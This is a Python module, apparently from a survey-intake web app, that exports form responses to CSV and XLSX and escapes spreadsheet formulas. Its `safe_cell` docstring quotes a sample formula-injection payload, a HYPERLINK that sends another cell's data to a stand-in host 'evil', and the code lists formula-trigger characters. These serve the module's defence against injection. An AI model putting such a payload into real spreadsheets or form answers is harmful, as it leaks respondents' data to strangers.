"""Responses as spreadsheet rows: CSV for German Excel, and XLSX.

Plain functions with no `request` access, so the back office and the CLI can share
them. `export_rows` streams: it reads responses in keyset-paginated batches and the
answers of each batch with one query, so memory stays bounded for any number of
responses. The writers (`csv_stream`, `xlsx_file`, `workbook_file`) neutralise
spreadsheet formulas.

Repeats (a household's members, intake.engine.repeats) have a varying number of
entries, so their questions are not columns of the wide export (one row per response):
there the repeat is one column, its number of entries. Each repeat's entries are a
long table of their own, one row per (response, entry), made by `repeat_rows` from the
same scoped, batched reading of responses:

- XLSX (`export_sheets`): the wide sheet first, then one sheet per repeat, titled with
  the repeat's label in the export's language (`sheet_titles`: at most 31 characters,
  none of []:*?/\\, unique), with the columns Reference, Entry, then the repeat's
  questions.
- CSV: one long CSV per repeat, a download of its own beside the wide CSV (the same
  address with `?repeat=<name>`: the same permission check and audit event, the repeat
  named in it), with the columns Reference, Repeat (its label), Entry, then the
  repeat's questions. One file per repeat, not one for all repeats: two repeats have
  different questions, and a table whose columns are the questions of every repeat
  would be mostly empty and would change shape whenever a repeat is added.

Entries are those the repeat's stored count names (1 to n), and any entry with an
answer beyond it, so an entry with no answers still has its row.
"""

from __future__ import annotations

import codecs
import csv
import io
import re
import tempfile
from collections import defaultdict
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import IO

import sqlalchemy as sa
from flask_babel import force_locale
from flask_babel import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

from intake.engine import repeats as repeat_engine
from intake.engine.definition import FieldDef, FormDefinition
from intake.extensions import db
from intake.kiosk.store import event_names
from intake.period import LOCAL_TZ
from intake.reports.params import ReportParams
from intake.scope import responses_where
from intake.storage.models import Answer, District, Form, FormVersion, Municipality, Response
from intake.storage.sealing import reveal

#: Responses read (and answers fetched) per query.
BATCH_SIZE = 1000
#: CSV bytes collected before a chunk is sent to the client.
CSV_CHUNK = 64 * 1024
#: Temporary XLSX data above this size goes to disk instead of memory.
XLSX_SPOOL = 8 * 1024 * 1024
#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
#: (tab and carriage return can hide such a start from a quick look, and some importers
#: strip them before deciding).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: Excel's limits for a sheet's title: its length (in UTF-16 units), the characters it
#: refuses, and a name it keeps for itself.
SHEET_TITLE_LENGTH = 31
SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
SHEET_TITLE_RESERVED = "history"

CSV_MIMETYPE = "text/csv"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass(frozen=True)
class Column:
    """One answer column: a field, and for multiple choice one of its choices."""

    field: FieldDef
    choice: str | None = None


@dataclass(frozen=True)
class Sheet:
    """One sheet of a workbook: its title and its rows (the first is the header)."""

    title: str
    rows: Iterable[list[str]]


def export_rows(
    form: Form,
    definition: FormDefinition,
    districts: Sequence[District],
    params: ReportParams,
    lang: str,
    batch_size: int = BATCH_SIZE,
    sensitive: bool = False,
) -> Iterator[list[str]]:
    """The header row, then one row per response of `form` in `districts`, oldest first.

    Questions marked `sensitive` (Art. 9) are left out unless `sensitive` is true (the
    caller has checked and audited that it was asked for); then they are decrypted.

    Columns follow the newest definition (`definition`); answers given to older versions
    line up by field name, and fields the newest version no longer has are left out.
    A repeat is one column, its number of entries; its questions are in `repeat_rows`.
    No query runs before the first row is asked for, but the ORM objects passed in are
    read at once, so the caller may commit (an audit event) or detach them meanwhile.
    """
    district_names = {d.id: d.name for d in districts}
    scope = responses_where(districts, form, params.period)
    return _rows(form.id, definition, district_names, scope, lang, batch_size, sensitive)


def _rows(
    form_id: int,
    definition: FormDefinition,
    district_names: dict[int, str],
    scope: list,
    lang: str,
    batch_size: int,
    sensitive: bool = False,
) -> Iterator[list[str]]:
    fields = [
        f
        for f in definition.answer_fields
        if f.repeat is None and (sensitive or not f.sensitive)  # entries: repeat_rows
    ]
    encrypted = {f.name for f in fields if f.sensitive}
    columns = _columns(fields, scope, in_entries=False)
    # Every translated text is looked up once, here, in the export's language; the
    # rows below need no locale (a streamed response outlives force_locale).
    with force_locale(lang):
        header = [
            _("Reference"),
            _("Date"),
            _("District"),
            _("Language"),
            _("Source"),
            _("Version"),
        ]
        header += [_column_header(c, lang) for c in columns]
        labels = _value_labels(fields, lang)
    yield header

    versions = dict(
        db.session.execute(
            sa.select(FormVersion.id, FormVersion.number).where(FormVersion.form_id == form_id)
        ).all()
    )
    names = [f.name for f in fields]
    events: dict[int, str] = {}
    for batch in _response_batches(scope, batch_size):
        wanted = {r.event_id for r in batch if r.event_id and r.event_id not in events}
        events.update(event_names(list(wanted)) if wanted else {})
        values: dict[int, dict[str, list[str]]] = defaultdict(lambda: defaultdict(list))
        for response_id, name, value in db.session.execute(
            sa.select(Answer.response_id, Answer.field, Answer.value)
            .where(
                Answer.response_id.in_([r.id for r in batch]),
                Answer.field.in_(names),
                Answer.entry.is_(None),  # an entry's answers are in its repeat's rows
            )
            .order_by(Answer.id)
        ):
            values[response_id][name].append(reveal(value) if name in encrypted else value)
        for r in batch:
            answers = values.get(r.id, {})
            row = [
                r.reference,
                r.created_at.astimezone(LOCAL_TZ).strftime("%Y-%m-%d %H:%M"),
                district_names.get(r.district_id, ""),
                r.language,
                # An event's answers name the event (its name and date), not "event-3".
                events.get(r.event_id, r.source or "") if r.event_id else r.source or "",
                str(versions.get(r.form_version_id, "")),
            ]
            yield row + _cells(columns, answers, labels)


def repeat_rows(
    form: Form,
    definition: FormDefinition,
    districts: Sequence[District],
    params: ReportParams,
    lang: str,
    repeat: str,
    batch_size: int = BATCH_SIZE,
    sensitive: bool = False,
    long_format: bool = True,
) -> Iterator[list[str]]:
    """The header row, then one row per entry of `repeat` of each response of `form` in
    `districts`, responses oldest first and their entries in order.

    Columns: Reference, with `long_format` the repeat's label (Repeat), the entry's
    number (Entry), then one column per question of the repeat as `export_rows` makes
    them (one per choice of a multiple choice; labels as there). Sensitive questions
    as in `export_rows`. The responses are exactly those of `export_rows` (the same
    scope), read the same way: in batches, no query before the first row is asked for.
    A `repeat` the definition does not have is a ValueError.
    """
    found = next((r for r in definition.repeats if r.name == repeat), None)
    if found is None:
        raise ValueError(f"{form.slug} has no repeat {repeat!r}")
    scope = responses_where(districts, form, params.period)
    return _entry_rows(definition, found, scope, lang, batch_size, sensitive, long_format)


def _entry_rows(
    definition: FormDefinition,
    repeat: FieldDef,
    scope: list,
    lang: str,
    batch_size: int,
    sensitive: bool,
    long_format: bool,
) -> Iterator[list[str]]:
    fields = [
        f
        for f in definition.children(repeat.name)
        if f.answerable and (sensitive or not f.sensitive)
    ]
    encrypted = {f.name for f in fields if f.sensitive}
    columns = _columns(fields, scope, in_entries=True)
    with force_locale(lang):
        label = repeat.report_label(lang)
        header = [_("Reference")] + ([_("Repeat")] if long_format else []) + [_("Entry")]
        header += [_column_header(c, lang) for c in columns]
        labels = _value_labels(fields, lang)
    yield header

    names = [f.name for f in fields]
    for batch in _response_batches(scope, batch_size):
        counts: dict[int, int] = {}
        values: dict[int, dict[int, dict[str, list[str]]]] = defaultdict(
            lambda: defaultdict(lambda: defaultdict(list))
        )
        for response_id, name, entry, value in db.session.execute(
            sa.select(Answer.response_id, Answer.field, Answer.entry, Answer.value)
            .where(
                Answer.response_id.in_([r.id for r in batch]),
                sa.or_(
                    sa.and_(Answer.field.in_(names), Answer.entry.is_not(None)),
                    sa.and_(Answer.field == repeat.name, Answer.entry.is_(None)),
                ),
            )
            .order_by(Answer.id)
        ):
            if entry is None:
                counts[response_id] = _entry_count(value)
            else:
                values[response_id][entry][name].append(
                    reveal(value) if name in encrypted else value
                )
        for r in batch:
            given = values.get(r.id, {})
            for entry in sorted(set(range(1, counts.get(r.id, 0) + 1)) | set(given)):
                row = [r.reference] + ([label] if long_format else []) + [str(entry)]
                yield row + _cells(columns, given.get(entry, {}), labels)


def _entry_count(value: str) -> int:
    """A repeat's stored answer as a number of entries (0 if it is none)."""
    try:
        count = int(value)
    except ValueError:
        return 0
    return max(0, min(count, repeat_engine.MAX_COUNT_LIMIT))


def _cells(
    columns: list[Column],
    answers: Mapping[str, list[str]],
    labels: Mapping[str, Mapping[str, str]],
) -> list[str]:
    """The answer cells of one row: 1 for a ticked choice, else the answers' labels."""
    cells = []
    for column in columns:
        given = answers.get(column.field.name, [])
        if column.choice is not None:
            cells.append("1" if column.choice in given else "")
        else:
            named = labels.get(column.field.name, {})
            cells.append(", ".join(named.get(v, v) for v in given))
    return cells


def export_sheets(
    form: Form,
    definition: FormDefinition,
    districts: Sequence[District],
    params: ReportParams,
    lang: str,
    batch_size: int = BATCH_SIZE,
    sensitive: bool = False,
) -> list[Sheet]:
    """The sheets of the XLSX export: the responses (`export_rows`), then one sheet per
    repeat with its entries (`repeat_rows` without the Repeat column: the sheet's title
    names it). The rows are read when the sheets are written."""
    with force_locale(lang):
        main = _("Responses")
        labels = [r.report_label(lang) for r in definition.repeats]
    titles = sheet_titles([main, *labels], [main, *(r.name for r in definition.repeats)])
    sheets = [
        Sheet(
            titles[0], export_rows(form, definition, districts, params, lang, batch_size, sensitive)
        )
    ]
    for title, repeat in zip(titles[1:], definition.repeats, strict=True):
        rows = repeat_rows(
            form,
            definition,
            districts,
            params,
            lang,
            repeat.name,
            batch_size,
            sensitive,
            long_format=False,
        )
        sheets.append(Sheet(title, rows))
    return sheets


def sheet_titles(labels: Sequence[str], fallbacks: Sequence[str]) -> list[str]:
    """Titles Excel accepts for sheets named `labels`: without []:*?/\\ and control
    characters, no apostrophe first or last, at most 31 characters, never "History",
    and unique (Excel ignores case there): a title taken already gets " (2)", " (3)"...
    An empty title becomes its `fallback` (a field name)."""
    taken = {SHEET_TITLE_RESERVED}
    out = []
    for label, fallback in zip(labels, fallbacks, strict=True):
        title = _sheet_title(label) or _sheet_title(fallback) or "Sheet"
        candidate, number = title, 2
        while candidate.casefold() in taken:
            suffix = f" ({number})"
            candidate = _fit(title, SHEET_TITLE_LENGTH - len(suffix)).rstrip() + suffix
            number += 1
        taken.add(candidate.casefold())
        out.append(candidate)
    return out


def _sheet_title(text: str) -> str:
    text = SHEET_TITLE_FORBIDDEN.sub(" ", ILLEGAL_CHARACTERS_RE.sub("", text))
    text = " ".join(text.split()).strip("' ")
    return _fit(text, SHEET_TITLE_LENGTH).strip("' ")


def _fit(text: str, length: int) -> str:
    """`text` cut to `length` UTF-16 units (how Excel counts a title's characters)."""
    text = text[:length]  # no character is less than one unit
    while len(text.encode("utf-16-le")) // 2 > length:
        text = text[:-1]
    return text


def _response_batches(scope: list, batch_size: int) -> Iterator[list[sa.Row]]:
    """Responses in (created_at, id) order, `batch_size` at a time (keyset pagination)."""
    after: tuple | None = None
    while True:
        query = sa.select(
            Response.id,
            Response.reference,
            Response.created_at,
            Response.district_id,
            Response.language,
            Response.source,
            Response.form_version_id,
            Response.event_id,
        ).where(*scope)
        if after is not None:
            created, last_id = after
            # Column comparisons (not a tuple_) so the bound datetime gets the column type.
            query = query.where(
                sa.or_(
                    Response.created_at > created,
                    sa.and_(Response.created_at == created, Response.id > last_id),
                )
            )
        batch = db.session.execute(
            query.order_by(Response.created_at, Response.id).limit(batch_size)
        ).all()
        if not batch:
            return
        yield batch
        if len(batch) < batch_size:
            return
        after = (batch[-1].created_at, batch[-1].id)


def _columns(fields: list[FieldDef], scope: list, in_entries: bool) -> list[Column]:
    """One column per single-valued field; one per choice of a multiple-choice field.

    Choices only an older version offered still get a column (after the current ones)
    when someone ticked them, so no ticked answer disappears from the export.
    `in_entries`: the fields are a repeat's questions (answers with an entry's number).
    """
    multiple = [f.name for f in fields if f.kind.multiple]
    seen: dict[str, set[str]] = defaultdict(set)
    if multiple:
        entry = Answer.entry.is_not(None) if in_entries else Answer.entry.is_(None)
        for name, value in db.session.execute(
            sa.select(Answer.field, Answer.value)
            .join(Response, Answer.response_id == Response.id)
            .where(*scope, Answer.field.in_(multiple), entry)
            .distinct()
        ):
            seen[name].add(value)
    out = []
    for fdef in fields:
        if not fdef.kind.multiple:
            out.append(Column(fdef))
            continue
        declared = [c["value"] for c in fdef.choices]
        extra = sorted(seen[fdef.name] - set(declared))
        out.extend(Column(fdef, value) for value in declared + extra)
    return out


def _column_header(column: Column, lang: str) -> str:
    """'How would you like to help? – Language courses' for a choice column."""
    label = column.field.report_label(lang)
    if column.choice is None:
        return label
    return f"{label} – {column.field.choice_label(column.choice, lang).text}"


def _value_labels(fields: list[FieldDef], lang: str) -> dict[str, Mapping[str, str]]:
    """Per field, stored value -> what the export shows; values not listed show as stored."""
    places: dict[str, str] = {}
    out: dict[str, Mapping[str, str]] = {}
    for fdef in fields:
        if fdef.kind.multiple:
            continue  # a column per choice (_columns), marked 1 when ticked
        if fdef.kind.place and not places:
            places = dict(db.session.execute(sa.select(Municipality.slug, Municipality.name)).all())
        labels = fdef.answer_labels(lang, places)
        if labels:
            out[fdef.name] = labels
    return out


def safe_cell(value: str) -> str:
    """A cell value that no spreadsheet program runs as a formula.

    Answers come from anyone with the form's link. A cell such as
    `=HYPERLINK("http://evil/?"&A2;"click")` or `@SUM(...)` would run as a formula when a
    coordinator opens the export in Excel or LibreOffice (CSV/formula injection, OWASP)
    and could send other answers to a stranger or start a program (DDE). A leading
    apostrophe makes every such cell plain text; the apostrophe is visible, which is
    the accepted price for answers that really start with '-' or '+'.
    """
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_stream(rows: Iterable[list[str]]) -> Iterator[bytes]:
    """CSV as German Excel opens it: UTF-8 with BOM, ';' between cells, CRLF lines."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    yield codecs.BOM_UTF8
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
        if buffer.tell() >= CSV_CHUNK:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    if buffer.tell():
        yield buffer.getvalue().encode("utf-8")


def xlsx_file(rows: Iterable[list[str]]) -> IO[bytes]:
    """The rows as an .xlsx file of one sheet, rewound (see `workbook_file`)."""
    return workbook_file([Sheet("Sheet", rows)])


def workbook_file(sheets: Sequence[Sheet]) -> IO[bytes]:
    """The sheets as an .xlsx file, rewound; each sheet's first row (the header) in bold.

    XLSX is a zip file and cannot be sent before it is complete, but openpyxl's
    write-only mode keeps only the current row in memory and the result is spooled
    to a temporary file when large. Every cell is a string, never a formula. The
    titles must be valid already (`sheet_titles`).
    """
    workbook = Workbook(write_only=True)
    bold = Font(bold=True)
    for spec in sheets:
        sheet = workbook.create_sheet(title=spec.title)
        for index, row in enumerate(spec.rows):
            cells = []
            for value in row:
                cell = WriteOnlyCell(sheet, value=_xlsx_text(value))
                cell.data_type = "s"
                if index == 0:
                    cell.font = bold
                cells.append(cell)
            sheet.append(cells)
    out = tempfile.SpooledTemporaryFile(max_size=XLSX_SPOOL)  # the caller closes it
    workbook.save(out)
    out.seek(0)
    return out


def _xlsx_text(value: str) -> str:
    """A formula-safe string without the control characters XML (and so XLSX) forbids."""
    return safe_cell(ILLEGAL_CHARACTERS_RE.sub("", value))
